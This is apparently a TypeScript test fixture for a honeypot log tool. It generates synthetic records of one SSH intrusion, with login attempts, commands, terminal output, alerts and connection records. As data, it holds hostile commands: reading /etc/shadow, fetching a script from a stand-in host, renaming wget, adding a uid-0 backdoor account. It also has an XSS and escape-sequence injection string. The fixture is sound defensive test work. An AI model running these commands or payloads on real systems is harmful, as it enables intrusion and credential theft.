/** One small attack as documents: RFC 5737 addresses, `.invalid` names, and texts as attackers write them. */
import { appendFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import type { WaspglassDocument } from '@waspglass/logs';

const host = { name: 'web01.invalid' };
export const HOSTILE = '<img src=x onerror=alert(1)>\u202egpj.exe\u001b[31m\u0000';

export function queueFile(directory: string, sequence: number): string {
  return join(directory, `documents.${String(sequence).padStart(8, '0')}.jsonl`);
}

export function append(directory: string, sequence: number, documents: readonly WaspglassDocument[]): void {
  mkdirSync(directory, { recursive: true });
  appendFileSync(queueFile(directory, sequence), documents.map((d) => `${JSON.stringify(d)}\n`).join(''));
}

export function attempt(
  n: number,
  time: number,
  ip: string,
  user: string,
  password: string,
  success = false,
): WaspglassDocument {
  const outcome = success ? 'success' : 'failure';
  return {
    _id: `auth-${time}-${n}`,
    '@timestamp': new Date(time).toISOString(),
    message: `${success ? 'Accepted' : 'Failed'} password ${password} for ${user} from ${ip}`,
    event: { dataset: 'system.auth', category: ['authentication'], action: 'ssh_login', outcome },
    host,
    source: { ip, port: 40_000 + n },
    user: { name: user },
    waspglass: { method: 'password', password, user_valid: success },
  };
}

export interface AttackOptions {
  readonly id: string;
  readonly start: number;
  readonly ip: string;
  readonly ended?: boolean;
}

/** A session with commands, a terminal, a file, a connection and alerts. */
export function attack({ id, start, ip, ended = true }: AttackOptions): WaspglassDocument[] {
  const at = (ms: number) => ({ '@timestamp': new Date(start + ms).toISOString(), host, session: { id } });
  const lines: readonly (readonly [string, number, number])[] = [
    ['uname -a', 0, 0],
    ['cat /etc/shadow', 0, 0],
    ['sh -c "wget -q http://payload.invalid/zbbpxdqalfe.sh -O /tmp/.x"', 0, 4],
    ['wget -q http://payload.invalid/zbbpxdqalfe.sh -O /tmp/.x', 1, 4],
    ['mv /usr/bin/wget /usr/bin/good', 0, 0],
    [`./.x ${HOSTILE}`, 0, 127],
    ['useradd -o -u 0 -g 0 -M -d /root -s /bin/bash support', 0, 0],
  ];
  const commands = lines.map(
    ([line, depth, exit], i): WaspglassDocument => ({
      ...at(4000 + i * 2300),
      _id: `command-${id}-${i + 1}`,
      message: line,
      event: {
        dataset: 'honeypot.command',
        category: ['process'],
        action: 'exec',
        outcome: exit === 0 ? 'success' : 'failure',
      },
      source: { ip },
      user: { name: 'root', id: 0 },
      process: {
        pid: 1743 + i,
        name: line.split(' ')[0] ?? '',
        executable: `/usr/bin/${line.split(' ')[0]}`,
        command_line: line,
        exit_code: exit,
        working_directory: '/root',
      },
      waspglass: {
        index: i + 1,
        depth,
        capture: { file: 'image.20260301-120000.00001.scap.gz', event: 9000 + i * 311 },
      },
    }),
  );
  const screen: readonly string[] = [
    '\u001b]0;root@web01: ~\u0007\u001b[01;32mroot@web01\u001b[00m:\u001b[01;34m~\u001b[00m# ',
    'uname -a\r\nLinux web01 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 x86_64 GNU/Linux\r\n\u001b[01;32mroot@web01\u001b[00m:~# ',
    'cat /etc/shadow\r\nroot:$y$j9T$vXk1J0$mFq:20147:0:99999:7:::\r\nuser:$y$j9T$0aB2$9dk:20147:0:99999:7:::\r\n\u001b[01;32mroot@web01\u001b[00m:~# ',
    'wget -q http://payload.invalid/zbbpxdqalfe.sh -O /tmp/.x\r\n',
    'wget: unable to resolve host address \u2018payload.invalid\u2019\r\n\u001b[01;32mroot@web01\u001b[00m:~# ',
    'mv /usr/bin/wget /usr/bin/good\r\n\u001b[01;32mroot@web01\u001b[00m:~# ',
    `./.x\r\n-bash: ./.x: ${HOSTILE} No such file or directory\r\n\u001b[01;32mroot@web01\u001b[00m:~# `,
    'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash support\r\n\u001b[01;32mroot@web01\u001b[00m:~# exit\r\nlogout\r\n',
  ];
  const terminal = screen.map(
    (text, i): WaspglassDocument => ({
      ...at(2500 + i * 2100),
      _id: `terminal-${id}-${i}`,
      message: 'terminal output',
      event: { dataset: 'honeypot.terminal', category: ['session'] },
      waspglass: { direction: 'output', data: Buffer.from(text).toString('base64'), offset_ms: 2500 + i * 2100 },
    }),
  );
  const alert = (
    n: number,
    ms: number,
    rule: string,
    priority: string,
    severity: number,
    tags: string[],
    output: string,
  ): WaspglassDocument => ({
    ...at(ms),
    _id: `alert-${id}-${n}`,
    message: output,
    event: { dataset: 'falco.alerts', category: ['intrusion_detection'], severity },
    source: { ip },
    user: { name: 'root' },
    rule: { name: rule },
    tags,
    waspglass: {
      priority,
      output,
      output_fields: { 'proc.name': 'bash', 'user.name': 'root', 'fd.name': HOSTILE },
      latency_ms: 4,
      capture: { file: 'image.20260301-120000.00001.scap.gz', event: 9311 + n },
    },
  });
  return [
    {
      ...at(0),
      _id: `session-${id}`,
      message: `root from ${ip}`,
      event: { dataset: 'honeypot.session', category: ['session'], action: ended ? 'session_end' : 'session_start' },
      source: { ip, port: 51_234 },
      user: { name: 'root' },
      session: { id },
      waspglass: {
        started: new Date(start).toISOString(),
        ...(ended ? { ended: new Date(start + 21_400).toISOString() } : {}),
        password: 'passw0rd',
        method: 'password',
        tty: true,
        commands: ended ? lines.length : 0,
        alerts: ended ? 4 : 0,
        files: ended ? 2 : 0,
        connections: ended ? 1 : 0,
        failures_before: 30,
        capture: { file: 'image.20260301-120000.00001.scap.gz', event: 8120 },
      },
    },
    ...commands,
    ...terminal,
    alert(
      1,
      900,
      'Shell started by sshd',
      'Notice',
      5,
      ['mitre_execution', 'T1059.004'],
      `A shell started under sshd (user=root shell=bash from=${ip})`,
    ),
    alert(
      2,
      6400,
      'Read of password hashes',
      'Warning',
      4,
      ['mitre_credential_access', 'T1003.008'],
      'cat read /etc/shadow (user=root command=cat /etc/shadow)',
    ),
    alert(
      3,
      13_300,
      'Download tool renamed',
      'Warning',
      4,
      ['mitre_defense_evasion', 'T1036.003'],
      'mv renamed /usr/bin/wget to /usr/bin/good',
    ),
    alert(
      4,
      18_000,
      'Account added',
      'Critical',
      2,
      ['mitre_persistence', 'T1136.001'],
      `useradd made an account with user id 0 (${HOSTILE})`,
    ),
    {
      ...at(9000),
      _id: `file-${id}-1`,
      message: 'wrote /tmp/.x',
      event: { dataset: 'honeypot.file', category: ['file'], action: 'written' },
      process: { pid: 1746, name: 'wget' },
      file: {
        path: '/tmp/.x',
        size: 0,
        hash: { sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855' },
      },
      waspglass: {},
    },
    {
      ...at(13_200),
      _id: `file-${id}-2`,
      message: 'renamed /usr/bin/wget',
      event: { dataset: 'honeypot.file', category: ['file'], action: 'renamed' },
      process: { pid: 1747, name: 'mv' },
      file: { path: '/usr/bin/wget' },
      waspglass: { target: `/usr/bin/good${HOSTILE}` },
    },
    {
      ...at(9100),
      _id: `connection-${id}-1`,
      message: 'connect to 203.0.113.80:80 refused by the containment',
      event: { dataset: 'honeypot.connection', category: ['network'], action: 'connect', outcome: 'failure' },
      process: { pid: 1746, name: 'wget' },
      destination: { ip: '203.0.113.80', port: 80 },
      waspglass: { transport: 'tcp', result: 'ETIMEDOUT' },
    },
  ];
}

export function growth(minute: number, events: number, lost = 0): WaspglassDocument {
  return {
    _id: `growth-${minute}`,
    '@timestamp': new Date(minute * 60_000).toISOString(),
    message: `${events} events`,
    event: { dataset: 'capture.growth' },
    host,
    waspglass: { events, bytes: events * 61, lost },
  };
}

export function containment(time: number, packets: number): WaspglassDocument {
  return {
    _id: `containment-${time}`,
    '@timestamp': new Date(time).toISOString(),
    message: `${packets} packets dropped`,
    event: { dataset: 'honeypot.containment' },
    host,
    waspglass: { dropped_packets: packets, dropped_bytes: packets * 60 },
  };
}
